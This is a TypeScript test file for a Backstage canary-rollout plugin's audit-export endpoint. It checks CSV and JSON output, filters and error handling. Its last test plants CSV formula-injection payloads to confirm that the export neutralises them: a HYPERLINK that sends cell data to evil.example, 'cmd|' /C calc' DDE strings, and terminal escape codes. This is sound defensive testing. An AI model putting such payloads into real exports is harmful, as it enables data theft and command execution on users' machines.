import { TestDatabases } from '@backstage/backend-test-utils';
import request from 'supertest';
import { startBackend } from '../__testUtils__/testBackend';
import { makeRollout } from '../engine/testRollout';
import type { AuditEventDraft } from '../engine/types';
import { RolloutStore } from '../store/RolloutStore';

/**
 * GET /audit/export streams the whole filtered trail as an attachment, CSV exactly as
 * /audit?format=csv writes it, JSON as one array; across several of its internal pages.
 */

const databases = TestDatabases.create({ ids: ['SQLITE_3'] });
const ROLLOUTS = 3;
/** More events than one page of an export (500), so that pages are joined. */
const EVENTS_PER_ROLLOUT = 400;
const at = (n: number) =>
  new Date(Date.parse('2026-01-01T00:00:00Z') + n * 1000).toISOString();

describe('GET /audit/export', () => {
  let server: any;
  let store: RolloutStore;
  const get = (path: string) => request(server).get(`/api/canary${path}`);

  beforeAll(async () => {
    const knex = await databases.init('SQLITE_3');
    ({ server } = await startBackend({ knex }));
    store = new RolloutStore(knex);
    for (let r = 0; r < ROLLOUTS; r++) {
      const rollout = makeRollout({
        id: `00000000-0000-4000-8000-00000000000${r}`,
        entityRef: `component:default/exported-${r}`,
        target: { ...makeRollout().target, name: `exported-${r}` },
      });
      const events: AuditEventDraft[] = Array.from(
        { length: EVENTS_PER_ROLLOUT },
        (_, i) => ({
          rolloutId: rollout.id,
          entityRef: rollout.entityRef,
          at: at(i * ROLLOUTS + r),
          actor: i === 0 ? 'user:default/owner' : 'engine',
          action: i === 0 ? 'launch' : 'advance',
          phaseAfter: rollout.phase,
          stageIndex: 0,
          weightsAfter: rollout.weights,
          reason: `step ${i}, with "quotes", commas\nand a newline`,
          details: { step: i, errorRate: 0.0123 },
        }),
      );
      await store.insert(rollout, events);
    }
  });

  /** Every event of a filtered /audit query, page after page. */
  async function allPages(query: string) {
    const items: any[] = [];
    let cursor: string | undefined;
    do {
      const res = await get(
        `/audit?${query}&limit=1000${cursor ? `&cursor=${cursor}` : ''}`,
      ).expect(200);
      items.push(...res.body.items);
      cursor = res.body.nextCursor;
    } while (cursor);
    return items;
  }

  it('exports JSON as one array of every matching event, as an attachment', async () => {
    const res = await get('/audit/export?format=json')
      .expect(200)
      .expect('Content-Type', /application\/json/)
      .expect('Content-Disposition', 'attachment; filename="canary-audit.json"')
      .expect('Transfer-Encoding', 'chunked');
    expect(res.body).toHaveLength(ROLLOUTS * EVENTS_PER_ROLLOUT);
    expect(res.body).toEqual(await allPages(''));
    expect(res.body[1]).toMatchObject({
      reason: expect.stringContaining('"quotes"'),
      details: { step: 1, errorRate: 0.0123 },
      weightsAfter: { stable: 100, canary: 0 },
    });
  });

  it('exports CSV by default, the same bytes as /audit?format=csv', async () => {
    const exported = await get('/audit/export')
      .expect(200)
      .expect('Content-Type', /text\/csv/)
      .expect('Content-Disposition', 'attachment; filename="canary-audit.csv"');
    const listed = await get('/audit?format=csv').expect(200);
    expect(exported.text).toBe(listed.text);
    expect(exported.text.split('\n')[0]).toBe(
      'id,at,rolloutId,entityRef,actor,action,phaseBefore,phaseAfter,stageIndex,canaryWeight,reason,details',
    );
    // One header and one record per event; each reason holds a quoted newline.
    const records = exported.text.match(/^\d+,/gm) ?? [];
    expect(records).toHaveLength(ROLLOUTS * EVENTS_PER_ROLLOUT);
    expect(exported.text).toContain(
      '"step 1, with ""quotes"", commas\nand a newline"',
    );
  });

  it('applies the filters of /audit', async () => {
    const query = `entityRef=component:default/exported-1&action=advance&from=${at(
      30,
    )}&to=${encodeURIComponent('2026-01-01T01:10:00+01:00')}`;
    const exported = await get(`/audit/export?format=json&${query}`).expect(
      200,
    );
    const expected = await allPages(query);
    expect(expected.length).toBeGreaterThan(0);
    expect(expected.length).toBeLessThan(EVENTS_PER_ROLLOUT);
    expect(exported.body).toEqual(expected);
    // Ten minutes of one rollout's events, a third of a second apart, the first at 31 s.
    expect(expected).toHaveLength(190);
    expect(
      exported.body.every(
        (e: any) =>
          e.entityRef === 'component:default/exported-1' &&
          e.action === 'advance' &&
          e.at >= at(30) &&
          e.at < at(600),
      ),
    ).toBe(true);
  });

  it('exports an empty trail as an empty array and a header', async () => {
    const query = 'actor=user:default/nobody';
    expect((await get(`/audit/export?format=json&${query}`)).body).toEqual([]);
    expect(
      (await get(`/audit/export?${query}`)).text.trim().split('\n'),
    ).toHaveLength(1);
  });

  it.each([
    ['format=xml', /format/],
    ['limit=10', /limit/],
    ['cursor=abc', /cursor/],
    ['from=yesterday', /from/],
    [`from=${at(5)}&to=${at(5)}`, /from: must be before to/],
    ['rolloutId=nope', /rolloutId/],
  ])('answers 400 to %s', async (query, message) => {
    const res = await get(`/audit/export?${query}`).expect(400);
    expect(res.body.error.message).toMatch(message);
  });

  it('exports cells that a spreadsheet would run as formulas as text, without control characters', async () => {
    const rollout = makeRollout({
      id: '00000000-0000-4000-8000-0000000000ff',
      entityRef: 'component:default/hostile',
      target: { ...makeRollout().target, name: 'hostile' },
    });
    const hostile = [
      '=HYPERLINK("http://evil.example/?d="&A2,"Click")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '+1+1',
      '-2+3',
      '\tstarts with a tab',
      '\rstarts with a carriage return',
      '\uff1dfull-width equals',
      'bell\u0007 escape\u001b[31m delete\u007f c1\u009b end',
    ];
    await store.insert(
      rollout,
      hostile.map((reason, i) => ({
        rolloutId: rollout.id,
        entityRef: rollout.entityRef,
        at: at(5000 + i),
        actor: i === 0 ? '=cmd|"/C calc"!A0' : 'engine',
        action: i === 0 ? 'launch' : 'advance',
        phaseAfter: rollout.phase,
        stageIndex: 0,
        weightsAfter: rollout.weights,
        reason,
        details: { note: reason },
      })),
    );
    const csv = (
      await get('/audit/export?entityRef=component:default/hostile').expect(200)
    ).text;
    const records = csv.trim().split('\n').slice(1);
    expect(records).toHaveLength(hostile.length);
    // The reason is the 11th column; a quoted cell begins with `"`, then the text.
    const reasons = records.map(record =>
      record.replace(/^([^,]*,){10}/, '').replace(/,"\{.*$/, ''),
    );
    expect(reasons).toEqual([
      `"'=HYPERLINK(""http://evil.example/?d=""&A2,""Click"")"`,
      "'@SUM(1+1)*cmd|' /C calc'!A0",
      "'+1+1",
      "'-2+3",
      "'\tstarts with a tab",
      // The carriage return is a control character: removed, nothing left to escape.
      'starts with a carriage return',
      "'\uff1dfull-width equals",
      'bell escape[31m delete c1 end',
    ]);
    expect(records[0]).toMatch(
      /^\d+,[^,]+,[^,]+,component:default\/hostile,"'=cmd\|""/,
    );
    // Nothing in the whole export is a control character other than the line feeds between rows.
    // eslint-disable-next-line no-control-regex
    expect(csv).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    // JSON keeps the text as written: it is data for programs, not a spreadsheet.
    const json = await get(
      '/audit/export?format=json&entityRef=component:default/hostile',
    ).expect(200);
    expect(json.body.map((e: any) => e.reason)).toEqual(hostile);
  });
});
